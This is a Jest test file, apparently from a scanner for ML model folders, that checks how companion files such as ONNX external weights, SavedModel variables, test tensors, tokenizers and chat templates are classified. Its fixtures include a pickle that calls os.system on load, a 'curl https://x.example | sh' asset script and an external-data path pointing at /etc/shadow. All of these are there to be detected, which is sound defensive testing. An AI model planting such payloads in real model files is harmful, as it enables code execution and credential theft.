import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { analyseModel, isModelFile, type ModelAnalysis } from '../../src/engine/analyse-model.js'
import type { FileReport } from '../../src/engine/findings.js'
import { scanLocalModel } from '../../src/gate/builtin-scan.js'
import { defaultPolicy } from '../../src/gate/builtin-policy.js'
import {
  bytes,
  fixed32,
  msg,
  onnxGraph,
  onnxModel,
  onnxNode,
  onnxTensor,
  savedModel,
  sub,
  tfGraph,
  tfNode,
  vint
} from '../helpers/proto-builder.js'

/**
 * Files a model file of the same folder reads as data (ONNX external weights, a SavedModel's fingerprint,
 * variables and assets, ONNX test tensors, tokenizers) are identified as that data; what nothing references, or
 * what is really a pickle, is analysed as before.
 */

let root: string
beforeAll(() => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'engine-companions-'))
})
afterAll(() => fs.rmSync(root, { recursive: true, force: true }))

let n = 0
async function analyse(
  files: Record<string, Buffer | string>
): Promise<ModelAnalysis & { by: Record<string, FileReport> }> {
  const dir = path.join(root, `m${n++}`)
  for (const [name, data] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true })
    fs.writeFileSync(path.join(dir, name), data)
  }
  const r = await analyseModel({ path: dir, allowedGlobals: [] })
  return { ...r, by: Object.fromEntries(r.reports.map((x) => [x.path, x])) }
}

const brief = (r: FileReport | undefined) => ({
  formats: r?.formats,
  notModel: r?.notModel ?? false,
  findings: r?.findings.map((f) => ({
    rule: f.rule,
    unverified: f.unverified ?? false,
    description: f.description
  }))
})

const DATA = (format: string) => ({ formats: [format], notModel: true, findings: [] })

/** 16 float32 values whose first byte is 0x80 (PROTO to a pickle reader), as real weights can be. */
function floats(): Buffer {
  const b = Buffer.alloc(64)
  for (let i = 0; i < 16; i++) b.writeFloatLE(-1.5 - i, 4 * i)
  b[0] = 0x80
  b[1] = 0x02
  return b
}

/** A protocol-2 pickle that calls os.system('id'). */
const EVIL_PICKLE = Buffer.from(
  '\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.',
  'latin1'
)

/** An ONNX model whose initializer W is stored in `location`. */
function onnxWithExternal(external: Record<string, string>): Buffer {
  return onnxModel({
    graph: onnxGraph({
      inputs: ['x'],
      initializers: [onnxTensor('W', external)],
      nodes: [onnxNode({ op: 'MatMul', inputs: ['x', 'W'], outputs: ['y'] })]
    })
  })
}

describe('ONNX external data', () => {
  it('a referenced weights file is ONNX external data, even when its first bytes read as a pickle protocol', async () => {
    const r = await analyse({
      'model.onnx': onnxWithExternal({ location: 'weights.bin', offset: '0', length: '64' }),
      'weights.bin': floats()
    })
    expect(brief(r.by['model.onnx'])).toEqual({ formats: ['onnx'], notModel: false, findings: [] })
    expect(brief(r.by['weights.bin'])).toEqual(DATA('onnx_external_data'))
  })

  it('is known whatever the order of the listing, and reports keep the listing order', async () => {
    const r = await analyse({
      'a.data': floats(),
      'model.onnx': onnxWithExternal({ location: 'a.data' }),
      'z/model.onnx.data': floats(),
      'z/model.onnx': onnxWithExternal({ location: './model.onnx.data' })
    })
    expect(r.reports.map((x) => x.path)).toEqual([
      'a.data',
      'model.onnx',
      'z/model.onnx',
      'z/model.onnx.data'
    ])
    expect(brief(r.by['a.data'])).toEqual(DATA('onnx_external_data'))
    expect(brief(r.by['z/model.onnx.data'])).toEqual(DATA('onnx_external_data'))
  })

  it('an unreferenced weights.bin of unknown bytes still fails closed', async () => {
    const r = await analyse({
      'model.onnx': onnxWithExternal({ location: 'other.bin' }),
      'weights.bin': floats()
    })
    expect(r.by['weights.bin']!.formats).toEqual(['pickle'])
    expect(r.by['weights.bin']!.findings).toEqual([
      expect.objectContaining({
        unverified: true,
        description: expect.stringMatching(/^Could not be verified/)
      })
    ])
  })

  it('a referenced file that really is a malicious pickle is reported as a pickle', async () => {
    const r = await analyse({
      'model.onnx': onnxWithExternal({ location: 'weights.bin' }),
      'weights.bin': EVIL_PICKLE
    })
    expect(r.by['weights.bin']!.formats).toEqual(['pickle'])
    expect(r.by['weights.bin']!.findings).toContainEqual(
      expect.objectContaining({ rule: 'LOAD_TIME', module: 'os', operator: 'system' })
    )
  })

  it('a range past the end of the file, or an offset that is not a number, is not verified', async () => {
    const r = await analyse({
      'model.onnx': onnxModel({
        graph: onnxGraph({
          nodes: [],
          initializers: [
            onnxTensor('A', { location: 'w.bin', offset: '32', length: '64' }),
            onnxTensor('B', { location: 'v.bin', offset: 'x12' })
          ]
        })
      }),
      'w.bin': floats(),
      'v.bin': floats()
    })
    expect(brief(r.by['w.bin']).findings).toEqual([
      {
        rule: 'SUSPICIOUS',
        unverified: true,
        description:
          'Could not be verified: "model.onnx" reads tensor "A" at bytes 32..96, past the end of this 64-byte file'
      }
    ])
    expect(brief(r.by['v.bin']).findings).toEqual([
      {
        rule: 'SUSPICIOUS',
        unverified: true,
        description:
          'Could not be verified: "model.onnx" reads tensor "B" from this file, but its offset "x12" is not a number'
      }
    ])
  })

  it('a location that escapes the folder makes no companion (the model is flagged for it)', async () => {
    const r = await analyse({
      'sub/model.onnx': onnxWithExternal({ location: '../weights.bin' }),
      'weights.bin': floats()
    })
    expect(r.by['weights.bin']!.formats).toEqual(['pickle'])
    expect(r.by['sub/model.onnx']!.findings.map((f) => f.rule)).toEqual(['SUSPICIOUS'])
  })
})

// tensorflow/core/protobuf/fingerprint.proto FingerprintDef, as TF 2.x writes it (version first)
const FINGERPRINT = msg(
  sub(6, vint(1, 1)),
  vint(5, 2n ** 63n + 5n),
  vint(4, 44),
  vint(3, 33),
  vint(2, 22),
  vint(1, 11)
)
/** The last 48 bytes of a TensorFlow table: block handles, padding, the magic number. */
const TABLE_FOOTER = Buffer.concat([
  Buffer.alloc(40),
  Buffer.from([0x57, 0xfb, 0x80, 0x8b, 0x24, 0x75, 0x47, 0xdb])
])
const SAVED_MODEL = savedModel(tfGraph([tfNode('x', 'Placeholder'), tfNode('y', 'Identity')]))

describe('SavedModel companions', () => {
  it('fingerprint.pb, variables and assets beside saved_model.pb are identified', async () => {
    const r = await analyse({
      'saved_model.pb': SAVED_MODEL,
      'fingerprint.pb': FINGERPRINT,
      'variables/variables.index': Buffer.concat([Buffer.from([0, 1, 2, 3]), TABLE_FOOTER]),
      'variables/variables.data-00000-of-00001': floats(),
      'assets/table.bin': Buffer.from([0x80, 0x03, 0xff, 0x10, 0x20]),
      'assets.extra/tf_serving_warmup_requests': Buffer.from([0x12, 0, 0, 0, 0xff])
    })
    expect(brief(r.by['fingerprint.pb'])).toEqual(DATA('tensorflow_fingerprint'))
    expect(brief(r.by['variables/variables.index'])).toEqual(DATA('tensorflow_variables'))
    expect(brief(r.by['variables/variables.data-00000-of-00001'])).toEqual(DATA('tensorflow_variables'))
    expect(brief(r.by['assets/table.bin'])).toEqual(DATA('tensorflow_asset'))
    expect(brief(r.by['assets.extra/tf_serving_warmup_requests'])).toEqual(DATA('tensorflow_asset'))
  })

  it('a fingerprint with a field FingerprintDef does not have, or one without a SavedModel, stays unidentified', async () => {
    const r = await analyse({
      'a/saved_model.pb': SAVED_MODEL,
      'a/fingerprint.pb': msg(FINGERPRINT, bytes(9, 'x')),
      'b/fingerprint.pb': FINGERPRINT
    })
    for (const f of ['a/fingerprint.pb', 'b/fingerprint.pb'])
      expect(brief(r.by[f]).findings).toEqual([
        {
          rule: 'SUSPICIOUS',
          unverified: true,
          description:
            "Could not be verified: the content of 'fingerprint.pb' is not a format the engine can identify"
        }
      ])
  })

  it('a variables.index that is no TensorFlow table is analysed as any other file', async () => {
    const r = await analyse({
      'saved_model.pb': SAVED_MODEL,
      'variables/variables.index': Buffer.alloc(60, 3)
    })
    expect(r.by['variables/variables.index']!.formats).toEqual([])
  })

  it('what a loader could run among the assets is still found: a pickle, a script, a clean frozen graph', async () => {
    const r = await analyse({
      'saved_model.pb': SAVED_MODEL,
      'assets/vocab.pkl': EVIL_PICKLE,
      'assets/run.sh': 'curl https://x.example | sh\n',
      'assets/graph.pb': tfGraph([tfNode('py', 'PyFunc')])
    })
    expect(r.by['assets/vocab.pkl']!.findings).toContainEqual(
      expect.objectContaining({ rule: 'LOAD_TIME', operator: 'system' })
    )
    expect(r.by['assets/run.sh']!.findings.map((f) => f.rule)).toEqual(['SUSPICIOUS'])
    expect(r.by['assets/graph.pb']!.findings).toContainEqual(
      expect.objectContaining({ rule: 'RUNTIME', operator: 'PyFunc' })
    )
  })
})

/** onnx.proto TensorProto: dims, data_type FLOAT, name, raw_data. */
const TENSOR = msg(vint(1, 2), vint(1, 2), vint(2, 1), bytes(8, 'x'), bytes(9, floats().subarray(0, 16)))

describe('ONNX backend test data', () => {
  it('test_data_set_N/input_M.pb and output_M.pb beside a model are ONNX tensors', async () => {
    const r = await analyse({
      'model.onnx': onnxModel({
        graph: onnxGraph({ nodes: [onnxNode({ op: 'Relu', inputs: ['x'], outputs: ['y'] })] })
      }),
      'test_data_set_0/input_0.pb': TENSOR,
      'test_data_set_0/output_0.pb': msg(vint(2, 1), bytes(4, Buffer.alloc(8)), fixed32(4, 7))
    })
    expect(brief(r.by['test_data_set_0/input_0.pb'])).toEqual(DATA('onnx_tensor'))
    expect(brief(r.by['test_data_set_0/output_0.pb'])).toEqual(DATA('onnx_tensor'))
  })

  it('so is `<model>_output_N.pb` beside `<model>.onnx` (the backend\'s "light" models)', async () => {
    const r = await analyse({
      'light_alexnet.onnx': onnxModel({ graph: onnxGraph({ nodes: [] }) }),
      'light_alexnet_output_0.pb': TENSOR,
      'other_output_0.pb': TENSOR
    })
    expect(brief(r.by['light_alexnet_output_0.pb'])).toEqual(DATA('onnx_tensor'))
    expect(r.by['other_output_0.pb']!.findings).toEqual([expect.objectContaining({ unverified: true })])
  })

  it('a test tensor whose external data escapes the folder is suspicious', async () => {
    const r = await analyse({
      'm.onnx': onnxModel({ graph: onnxGraph({ nodes: [] }) }),
      'test_data_set_1/input_0.pb': msg(
        vint(2, 1),
        sub(13, bytes(1, 'location'), bytes(2, '/etc/shadow')),
        vint(14, 1)
      )
    })
    expect(brief(r.by['test_data_set_1/input_0.pb'])).toEqual({
      formats: ['onnx_tensor'],
      notModel: true,
      findings: [
        {
          rule: 'SUSPICIOUS',
          unverified: false,
          description:
            'External data path "/etc/shadow" of the test tensor escapes the model directory: absolute path'
        }
      ]
    })
  })

  it('sequence, optional and map test values (SequenceProto, OptionalProto, MapProto) are ONNX data too', async () => {
    const sequence = msg(bytes(1, 'seq'), vint(2, 1), bytes(3, TENSOR), bytes(3, TENSOR))
    const optional = msg(bytes(1, 'opt'), vint(2, 3), bytes(5, sequence))
    const map = msg(vint(2, 7), vint(3, 1), vint(3, 2), bytes(5, sequence))
    // nested deeper than any test writes: not data
    let deep = sequence
    for (let i = 0; i < 20; i++) deep = msg(bytes(5, deep))
    const r = await analyse({
      'model.onnx': onnxModel({ graph: onnxGraph({ nodes: [] }) }),
      'test_data_set_0/input_0.pb': sequence,
      'test_data_set_0/input_1.pb': optional,
      'test_data_set_0/input_2.pb': map,
      'test_data_set_0/output_0.pb': deep
    })
    for (const f of ['input_0', 'input_1', 'input_2'])
      expect(brief(r.by[`test_data_set_0/${f}.pb`])).toEqual(DATA('onnx_tensor'))
    expect(r.by['test_data_set_0/output_0.pb']!.findings).toEqual([
      expect.objectContaining({ unverified: true })
    ])
  })

  it('a .pb that is not a TensorProto, or has no model above it, stays unidentified', async () => {
    const r = await analyse({
      'model.onnx': onnxModel({ graph: onnxGraph({ nodes: [] }) }),
      'test_data_set_0/input_0.pb': msg(TENSOR, vint(15, 1)),
      'other/test_data_set_0/input_0.pb': TENSOR
    })
    for (const f of ['test_data_set_0/input_0.pb', 'other/test_data_set_0/input_0.pb'])
      expect(r.by[f]!.findings).toEqual([expect.objectContaining({ unverified: true })])
  })
})

/** sentencepiece_model.proto ModelProto: three pieces (piece, score, type) and a trainer spec. */
const SENTENCEPIECE = msg(
  sub(1, bytes(1, '<unk>'), fixed32(2, 0), vint(3, 2)),
  sub(1, bytes(1, '▁the'), fixed32(2, 0xbf800000)),
  sub(1, bytes(1, 's'), fixed32(2, 0xc0000000)),
  sub(2, bytes(1, 'train.txt'), vint(3, 1)),
  sub(3, bytes(1, 'nmt_nfkc'))
)

describe('tokenizer files', () => {
  it('SentencePiece and tiktoken models, vocabularies and merges are tokenizer data', async () => {
    const r = await analyse({
      'tokenizer.model': SENTENCEPIECE,
      'spiece.model': SENTENCEPIECE,
      'tiktoken/tokenizer.model': 'IQ== 0\nIg== 1\nIw== 2\n',
      'vocab.txt': '[PAD]\n[UNK]\nthe\n',
      'merges.txt': '#version: 0.2\nĠ t\n'
    })
    expect(brief(r.by['tokenizer.model'])).toEqual(DATA('sentencepiece'))
    expect(brief(r.by['spiece.model'])).toEqual(DATA('sentencepiece'))
    for (const f of ['tiktoken/tokenizer.model', 'vocab.txt', 'merges.txt'])
      expect(brief(r.by[f])).toEqual(DATA('tokenizer'))
  })

  it('a .model file that is not a SentencePiece model is not called one', async () => {
    const r = await analyse({ 'tokenizer.model': msg(SENTENCEPIECE, vint(7, 1)) })
    expect(r.by['tokenizer.model']!.formats).toEqual([])
  })
})

describe('a lone chat template', () => {
  const TEMPLATE = '{% for m in messages %}{{ m.role }}: {{ m.content }}\n{% endfor %}'

  it('is checked, and counts as something verified', async () => {
    const r = await analyse({ 'chat_template.jinja': TEMPLATE })
    expect(brief(r.by['chat_template.jinja'])).toEqual(DATA('jinja_template'))
    expect(r.reports.some(isModelFile)).toBe(true)
  })

  it('so the gate does not call the model "nothing verified"', async () => {
    const dir = path.join(root, `m${n++}`)
    fs.mkdirSync(dir)
    fs.writeFileSync(path.join(dir, 'chat_template.jinja'), TEMPLATE)
    const folder = await scanLocalModel({ path: dir, modelUri: 'm', policy: defaultPolicy() })
    const single = await scanLocalModel({
      path: path.join(dir, 'chat_template.jinja'),
      modelUri: 'm',
      policy: defaultPolicy()
    })
    expect(folder.nothingToVerify).toBeUndefined()
    expect(single.nothingToVerify).toBeUndefined()
  })

  it('a .j2 template, or a tokenizer_config.json holding one, is checked and counts too', async () => {
    const r = await analyse({
      'prompt.j2': TEMPLATE,
      'tokenizer_config.json': JSON.stringify({ chat_template: TEMPLATE, model_max_length: 512 })
    })
    expect(brief(r.by['prompt.j2'])).toEqual(DATA('jinja_template'))
    expect(r.by['tokenizer_config.json']!.templates).toBe(1)
    expect(
      r.reports
        .filter(isModelFile)
        .map((x) => x.path)
        .sort()
    ).toEqual(['prompt.j2', 'tokenizer_config.json'])
  })

  it('a config alone still verifies nothing', async () => {
    const r = await analyse({ 'config.json': '{"model_type": "bert"}' })
    expect(r.reports.some(isModelFile)).toBe(false)
  })
})

// ---- real models ----

const FIXTURES = fileURLToPath(new URL('../fixtures/engine/', import.meta.url))

describe('real models (TF Serving and ONNX test data)', () => {
  const all = async (rel: string) => {
    const r = await analyseModel({ path: path.join(FIXTURES, rel), allowedGlobals: [] })
    return Object.fromEntries(r.reports.map((x) => [x.path, brief(x)]))
  }

  it('a TF2 SavedModel with its fingerprint, variables and assets passes', async () => {
    expect(await all('tf-serving/saved_model_half_plus_two_tf2_cpu')).toEqual({
      '00000123/saved_model.pb': { formats: ['tensorflow'], notModel: false, findings: [] },
      '00000123/fingerprint.pb': DATA('tensorflow_fingerprint'),
      '00000123/assets/foo.txt': { formats: [], notModel: true, findings: [] },
      '00000123/variables/variables.data-00000-of-00001': DATA('tensorflow_variables'),
      '00000123/variables/variables.index': DATA('tensorflow_variables')
    })
  })

  it("a TF1 SavedModel with TF Serving's assets.extra config passes", async () => {
    const r = await all('tf-serving/saved_model_half_plus_two_cpu_with_saved_model_config')
    expect(r['00000123/assets.extra/saved_model_config.pb']).toEqual(DATA('tensorflow_asset'))
    expect(Object.values(r).flatMap((x) => x.findings)).toEqual([])
  })

  it('an ONNX backend test (model and TensorProto inputs and outputs) passes', async () => {
    const r = await all('onnx-backend/test_operator_addmm')
    expect(r['model.onnx']).toEqual({ formats: ['onnx'], notModel: false, findings: [] })
    for (const f of ['input_0', 'input_1', 'input_2', 'output_0'])
      expect(r[`test_data_set_0/${f}.pb`]).toEqual(DATA('onnx_tensor'))
  })
})
